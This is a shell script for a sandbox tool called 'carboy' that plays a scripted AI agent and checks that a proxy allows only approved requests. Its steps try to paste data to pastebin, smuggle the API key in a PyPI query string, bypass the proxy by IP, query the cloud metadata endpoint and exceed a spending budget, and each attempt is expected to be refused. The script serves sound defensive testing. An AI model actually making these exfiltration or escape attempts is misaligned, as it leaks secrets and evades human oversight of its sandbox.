#!/bin/sh
# carboy's demo agent: a plain script in a real bottle. It tries what a curious agent tries, and says what came of it.
# It needs curl or python3. With `--once` it makes one round without pauses.

once=''
[ "${1:-}" = --once ] && once=yes
here=$(dirname -- "$0")
key=${ANTHROPIC_API_KEY:-}
bold=$(printf '\033[1m') dim=$(printf '\033[2m') off=$(printf '\033[0m')
green=$(printf '\033[32m') red=$(printf '\033[31m') cyan=$(printf '\033[36m') yellow=$(printf '\033[33m')
failed=0
rounds=0
question='{"model": "claude-demo", "max_tokens": 400, "stream": true, "tools": [{"name": "none", "input_schema": {"type": "object"}}], "messages": [{"role": "user", "content": "What is this place?"}]}'

# own_key URL: the key, for the host that it belongs to
own_key() { case $1 in https://api.anthropic.com/*) printf '%s' "$key" ;; esac; }

# request METHOD URL [BODY]: the answer's lines as they come, then a last one with the status.
# direct URL: the same without the proxy.
if command -v curl >/dev/null 2>&1; then
    request() {
        set -- "$1" "$2" "${3:-}" "$(own_key "$2")"
        curl -sS -N -m 20 -X "$1" ${4:+-H} ${4:+"x-api-key: $4"} -H 'content-type: application/json' \
            ${3:+--data-binary} ${3:+"$3"} -w '\n%{http_code}\n' "$2" 2>&1
    }
    direct() { curl -sS -m 4 --noproxy '*' -w '\n%{http_code}\n' "$1" 2>&1; }
elif command -v python3 >/dev/null 2>&1; then
    request() { python3 "$here/fetch.py" "$1" "$2" "$(own_key "$2")" "${3:-}" 2>&1; }
    direct() { python3 "$here/fetch.py" --direct "$1" 2>&1; }
else
    printf 'The demo agent needs curl or python3 below /usr, and this machine has neither.\n' >&2
    exit 127
fi

pause() { [ -n "$once" ] || sleep "${1:-1}"; }
title() { printf '\n%s%s%s  %s%s%s\n' "$bold" "$1" "$off" "$dim" "$2" "$off"; }
good() { printf '   %s✔ %s%s\n' "$green" "$1" "$off"; }
bad() {
    printf '   %s✘ %s%s\n' "$red" "$1" "$off"
    failed=$((failed + 1))
}

# allowed METHOD URL [BODY]: the answer must be a 200
allowed() {
    answer=$(request "$@")
    status=${answer##*
}
    if [ "$status" = 200 ]; then good "allowed, 200"; else bad "expected 200: $answer"; fi
}

# refused METHOD URL [BODY]: the answer must be the sidecar's 403; its reason is shown
refused() {
    answer=$(request "$@")
    status=${answer##*
}
    reason=${answer#*'"reason":"'}
    reason=${reason%%\"*}
    if [ "$status" = 403 ]; then good "refused: $reason"; else bad "NOT refused: $answer"; fi
}

# unreachable URL: there must be no way at all
unreachable() {
    answer=$(direct "$1")
    status=${answer##*
}
    line=${answer%%
*}
    if [ "$status" = 000 ]; then good "no way out: $line"; else bad "REACHED: $answer"; fi
}

# spend BODY: asks again and again; the budget must end it with the sidecar's 400, whose reason is shown
spend() {
    count=0
    while [ "$count" -lt 9 ]; do
        answer=$(request POST https://api.anthropic.com/v1/messages "$1")
        status=${answer##*
}
        case $status in
            200) count=$((count + 1)) ;;
            400)
                reason=${answer#*'"reason":"'}
                good "cut off after $count more answers: ${reason%%\"*}"
                return
                ;;
            *)
                bad "expected 200 or 400: $answer"
                return
                ;;
        esac
    done
    bad "NOT cut off after $count answers"
}

# talk: one streamed turn of the model, word by word
talk() {
    printf '   %s' "$cyan"
    request POST https://api.anthropic.com/v1/messages "$1" | {
        code=000
        while IFS= read -r line; do
            case $line in
                *'"text_delta", "text": "'*)
                    text=${line#*'"text_delta", "text": "'}
                    printf '%s' "${text%'"}}'}"
                    ;;
                [0-9][0-9][0-9]) code=$line ;;
            esac
        done
        printf '%s\n' "$off"
        [ "$code" = 200 ]
    }
    if [ $? -eq 0 ]; then good "streamed from the model through the sidecar"; else bad "no turn from the model"; fi
}

round() {
    rounds=$((rounds + 1))
    printf '%s carboy demo %s  a scripted agent in a real bottle; nothing here touches the internet\n' "$bold$yellow" "$off"

    title 'Who am I?' "$(id -un 2>/dev/null || id -u) on $(hostname 2>/dev/null || cat /proc/sys/kernel/hostname)"
    printf '   my API key is %s%s%s: a placeholder, worth nothing outside\n' "$yellow" "$key" "$off"
    pause

    title '1. Ask the model' 'POST https://api.anthropic.com/v1/messages'
    if [ "$rounds" -le 1 ]; then
        talk "$question"
    else
        printf '   %sin the first round my budget was used up: b raises it%s\n' "$dim" "$off"
    fi
    pause
    title '2. Read a package index' 'GET https://pypi.org/simple/carboy/'
    allowed GET https://pypi.org/simple/carboy/
    pause
    title '3. Publish there' 'POST https://pypi.org/legacy/, where only GET is allowed'
    refused POST https://pypi.org/legacy/ 'name=carboy'
    pause
    title '4. Report home' 'POST https://api.anthropic.com/api/event_logging/batch'
    refused POST https://api.anthropic.com/api/event_logging/batch '{"events": []}'
    pause
    title '5. Paste a secret somewhere' 'POST https://pastebin.com/api'
    refused POST https://pastebin.com/api 'paste=all your files'
    pause
    title '6. Smuggle the key to an allowed host' 'GET https://pypi.org/simple/?key=…'
    refused GET "https://pypi.org/simple/?key=$key"
    pause
    title '7. Go round the proxy' 'http://203.0.113.7/ by its address'
    unreachable http://203.0.113.7/
    pause
    title '8. Ask the cloud who I am' 'http://169.254.169.254/latest/meta-data/'
    unreachable http://169.254.169.254/latest/meta-data/
    pause
    title '9. Look a name up' 'without the proxy'
    unreachable http://example.com/
    pause
    title '10. Spend more than I may' 'the same question, again and again'
    spend "$question"
    pause

    if [ "$failed" -eq 0 ]; then
        printf '\n%s%sEverything went as it should.%s Every request is in the log below.\n' "$bold" "$green" "$off"
    else
        printf '\n%s%s%s steps did not go as they should.%s\n' "$bold" "$red" "$failed" "$off"
    fi
}

if [ -n "$once" ]; then
    round
    exit $((failed > 0))
fi
while :; do
    failed=0
    round
    printf '\nEnter: another round.  q and Enter: the agent ends.  '
    IFS= read -r answer || exit 0
    [ "$answer" = q ] && exit 0
done
